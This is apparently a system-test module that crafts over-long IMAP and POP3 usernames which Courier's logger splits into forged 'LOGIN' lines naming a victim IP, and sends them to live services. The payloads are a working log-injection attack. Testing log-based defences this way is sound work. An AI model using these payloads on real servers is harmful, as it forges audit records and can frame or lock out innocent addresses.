"""Clients that never authenticate and send names that Courier's logger cuts into logins.

The names are those of docs/facts/courier.md, Forged lines; the bytes are counted from
``LOGIN FAILED, user=``, with which the logged line begins after its ``INFO: ``.
"""

from __future__ import annotations

import socket
from contextlib import suppress

from tests.system.courier import SERVICES, connect, unverified

HEARD = 0.05
"""Seconds after which an attacker hangs up."""

_BEGIN = len("INFO: LOGIN FAILED, user=")
_BUFFER = 511
"""Bytes of a line that courierlogger takes at once, one of its 512 being for the NUL."""


def own(_victim: str, _protocol: str) -> str:
    """The tail of the line becomes a login of the attacker's own address; a whole one for POP3."""
    return "A" * (_BUFFER - _BEGIN) + "LOGIN, user=x"


def any_address(victim: str, protocol: str) -> str:
    """The second piece is a whole login of any address, the third one a ``Z``."""
    return "A" * (_BUFFER - _BEGIN) + _login(victim, protocol).rjust(_BUFFER) + "Z"


def unfilled(victim: str, protocol: str) -> str:
    """The same without filling up: the real end of the line follows."""
    return "A" * (_BUFFER - _BEGIN) + _login(victim, protocol)


def spaces(_victim: str, protocol: str) -> str:
    """A short line that becomes a clean login where the discard stops within its spaces."""
    return " " * 400 + "LOGIN, user=x" + (", protocol=IMAP" if protocol == "imap" else "")


def _login(victim: str, protocol: str) -> str:
    kind = ", protocol=IMAP" if protocol == "imap" else ""
    return f"LOGIN, user=x, ip=[::ffff:{victim}], port=[1]{kind}"


NAMES = (own, any_address, unfilled, spaces)


def attack(attacker: str, victim: str, service: str) -> None:
    """Send each of the names to a service, and wait for no answer.

    Courier takes five seconds to refuse a login; who hangs up before that has been logged all the
    same.
    """
    for name in NAMES:
        # Courier ends the connections of floods now and then.
        with suppress(OSError), connect(attacker, SERVICES[service]) as plain:
            tls = service.endswith("-ssl")
            speaks = unverified().wrap_socket(plain) if tls else plain
            with speaks:
                _say(speaks, service, name(victim, service[:4]))


def _say(speaks: socket.socket, service: str, name: str) -> None:
    speaks.recv(512)
    if service.startswith("pop3"):
        speaks.sendall(f"USER {name}\r\nPASS x\r\n".encode())
    else:
        speaks.sendall(f'a LOGIN "{name}" x\r\n'.encode())
    # Courier has taken the name when this is over, and nobody waits for what it says.
    speaks.settimeout(HEARD)
    with suppress(TimeoutError):
        while speaks.recv(512):
            pass
